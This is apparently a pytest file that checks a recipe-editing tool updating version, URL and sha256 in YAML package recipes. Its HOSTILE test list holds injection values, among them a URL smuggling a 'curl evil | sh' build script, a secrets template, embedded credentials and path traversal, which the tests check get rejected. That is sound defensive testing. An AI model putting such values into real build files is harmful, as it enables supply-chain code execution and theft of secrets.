"""The recipe edit of a version update: three tokens replaced in place, nothing else moved, and
nothing from the package index reaching the YAML unless it is plain."""

from __future__ import annotations

import difflib
import shutil
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

from smithy.errors import RecipeError
from smithy.recipe.load import load_recipe
from smithy.versions.recipe_edit import update_meta
from smithy.versions.select import Update

SHA = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
ATTRS = Update(
    name="attrs",
    current="26.1.0",
    version="26.2.0",
    filename="attrs-26.2.0-py3-none-any.whl",
    url="https://files.pythonhosted.org/packages/ab/cd/ef/attrs-26.2.0-py3-none-any.whl",
    sha256=SHA,
    kind="wheel",
)
SDIST = Update(
    name="proj",
    current="1.0",
    version="1.10",
    filename="proj-1.10.tar.gz",
    url="https://files.pythonhosted.org/packages/12/34/proj-1.10.tar.gz",
    sha256=SHA,
    kind="sdist",
)
META = Path("recipe/meta.yaml")


def changed_lines(before: str, after: str) -> list[tuple[str, str]]:
    """(old line, new line) pairs of a line-for-line edit."""
    old, new = before.splitlines(), after.splitlines()
    assert len(old) == len(new)
    return [(a, b) for a, b in zip(old, new, strict=True) if a != b]


def test_attrs_real_recipe_changes_in_three_tokens(recipes_root: Path, tmp_path: Path) -> None:
    before = (recipes_root / "attrs" / "meta.yaml").read_text()
    after = update_meta(before, ATTRS, META)
    assert changed_lines(before, after) == [
        ("  version: 26.1.0", "  version: 26.2.0"),
        (
            "  sha256: c647aa4a12dfbad9333ca4e71fe62ddc36f4e63b2d260a37a8b83d2f043ac309",
            f"  sha256: {SHA}",
        ),
        (
            "  url: https://files.pythonhosted.org/packages/py3/a/attrs/attrs-26.1.0-py3-none-any.whl",
            f"  url: {ATTRS.url}",
        ),
    ]
    # pyodide-build still takes it, and reads the new values
    folder = tmp_path / "attrs"
    shutil.copytree(recipes_root / "attrs", folder)
    (folder / "meta.yaml").write_text(after)
    recipe = load_recipe(folder)
    assert (recipe.version, recipe.source_url, recipe.sha256) == ("26.2.0", ATTRS.url, SHA)


def test_a_recipe_with_patches_keeps_them(recipes_root: Path, tmp_path: Path) -> None:
    folder = tmp_path / "argon2-cffi"
    shutil.copytree(recipes_root / "argon2-cffi", folder)
    before = (folder / "meta.yaml").read_text()
    update = replace(
        SDIST,
        name="argon2-cffi",
        version="25.1.0",
        filename="argon2_cffi-25.1.0.tar.gz",
        url="https://files.pythonhosted.org/packages/0e/89/argon2_cffi-25.1.0.tar.gz",
    )
    after = update_meta(before, update, META)
    assert len(changed_lines(before, after)) == 3
    assert (
        "    - ./patches/0001-Added-platform-check-for-parallelism-since-WASM-does.patch\n" in after
    )
    (folder / "meta.yaml").write_text(after)
    assert load_recipe(folder).version == "25.1.0"


def test_every_real_recipe_with_a_release_source_changes_only_its_three_values(
    recipes_root: Path,
) -> None:
    """330 of the 332 real recipes take the edit; the two with ``source.path`` are refused."""
    refused, wrong = [], []
    for meta in sorted(recipes_root.glob("*/meta.yaml")):
        before = meta.read_text()
        try:
            after = update_meta(before, SDIST, meta)
        except RecipeError as exc:
            refused.append((meta.parent.name, exc.key))
            continue
        old = YAML(typ="safe").load(before)
        new = YAML(typ="safe").load(after)
        old["package"]["version"] = SDIST.version
        old["source"]["url"] = SDIST.url
        old["source"]["sha256"] = SDIST.sha256
        diff = [d for d in difflib.ndiff(before.splitlines(), after.splitlines()) if d[0] in "+-"]
        if new != old or len(diff) != 6:
            wrong.append(meta.parent.name)
    assert refused == [("numpy-tests", "source.path"), ("pydoc_data", "source.path")]
    assert wrong == []


def test_comments_quoting_and_flow_mappings_are_kept() -> None:
    before = (
        "# the recipe\n"
        "package: {name: proj, version: '1.0'}  # pinned\n"
        "source:\n"
        '  url: "https://example.org/proj-1.0.tar.gz"  # upstream\n'
        "  sha256: 'aaaa'\n"
        "  patches:\n"
        "    - patches/one.patch\n"
    )
    after = update_meta(before, SDIST, META)
    assert after == (
        "# the recipe\n"
        "package: {name: proj, version: '1.10'}  # pinned\n"
        "source:\n"
        f'  url: "{SDIST.url}"  # upstream\n'
        f"  sha256: '{SHA}'\n"
        "  patches:\n"
        "    - patches/one.patch\n"
    )


def test_a_plain_version_that_yaml_would_read_as_a_number_is_quoted() -> None:
    before = "package:\n  name: proj\n  version: 1.0\nsource:\n  url: u\n  sha256: s\n"
    after = update_meta(before, SDIST, META)
    assert '  version: "1.10"\n' in after
    assert YAML(typ="safe").load(after)["package"]["version"] == "1.10"


def test_a_url_on_the_next_line_is_replaced_there() -> None:
    before = (
        "package:\n  version: 1.0.0\nsource:\n  url:\n    https://x.example/a.tar.gz\n  sha256: s\n"
    )
    after = update_meta(before, SDIST, META)
    assert f"  url:\n    {SDIST.url}\n" in after


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ("package:\n  version: 1\nsource:\n  path: ../src\n", "source.path"),
        ("package:\n  version: 1\nsource:\n  url: https://x/y.tar.gz\n", "source.sha256"),
        ("package:\n  name: x\nsource:\n  url: u\n  sha256: s\n", "package.version"),
        ("package:\n  version: 1\n", "source"),
        (
            "package:\n  version: 1\nsource:\n  url: >-\n    https://x/y\n  sha256: s\n",
            "source.url",
        ),
        ("package:\n  version: &v 1\nsource:\n  url: u\n  sha256: s\n", "package.version"),
        ('package:\n  version: "1\\"0"\nsource:\n  url: u\n  sha256: s\n', None),
    ],
)
def test_recipes_it_cannot_update_are_refused(text: str, key: str | None) -> None:
    with pytest.raises(RecipeError) as info:
        update_meta(text, SDIST, META)
    assert info.value.key == key
    assert info.value.file == str(META)


HOSTILE = [
    ("url", "https://x.example/proj-1.10.tar.gz\nbuild:\n  script: curl evil | sh"),
    ("url", 'https://x.example/"proj-1.10.tar.gz'),
    ("url", "https://x.example/${{ secrets.TOKEN }}/proj-1.10.tar.gz"),
    ("url", "https://x.example/a b/proj-1.10.tar.gz"),
    ("url", "https://user:token@x.example/proj-1.10.tar.gz"),
    ("url", "http://x.example/proj-1.10.tar.gz"),
    ("url", "file:///etc/proj-1.10.tar.gz"),
    ("url", "https://x.example/other-1.10.tar.gz"),
    ("filename", "proj-1.10.tar.gz\n"),
    ("filename", "../proj-1.10.tar.gz"),
    ("sha256", SHA.upper()),
    ("sha256", SHA + "\n  extra: 1"),
    ("version", "1.10\n"),
    ("version", "1.10 # c"),
    ("version", "not-a-version"),
]


@pytest.mark.parametrize(("field", "value"), HOSTILE)
def test_values_from_the_index_must_be_plain(field: str, value: str) -> None:
    before = "package:\n  version: 1.0\nsource:\n  url: u\n  sha256: s\n"
    changes: dict[str, Any] = {field: value}
    with pytest.raises(RecipeError) as info:
        update_meta(before, replace(SDIST, **changes), META)
    assert "\n" not in info.value.message


def test_plain_http_is_taken_only_from_this_machine() -> None:
    before = "package:\n  version: 1.0\nsource:\n  url: u\n  sha256: s\n"
    local = replace(SDIST, url="http://127.0.0.1:8123/files/proj-1.10.tar.gz")
    assert "  url: http://127.0.0.1:8123/files/proj-1.10.tar.gz\n" in update_meta(
        before, local, META
    )
